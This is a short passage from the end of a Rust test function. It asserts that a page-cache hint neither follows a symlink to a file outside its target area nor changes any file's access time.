        std::thread::sleep(Duration::from_millis(20));
    }
    assert_eq!(resident_pages(&outside).0, 0, "the symlink was followed");
    let after: Vec<_> = files.iter().map(|p| times(p)).collect();
    assert_eq!(before, after, "a hint moved an atime");
}
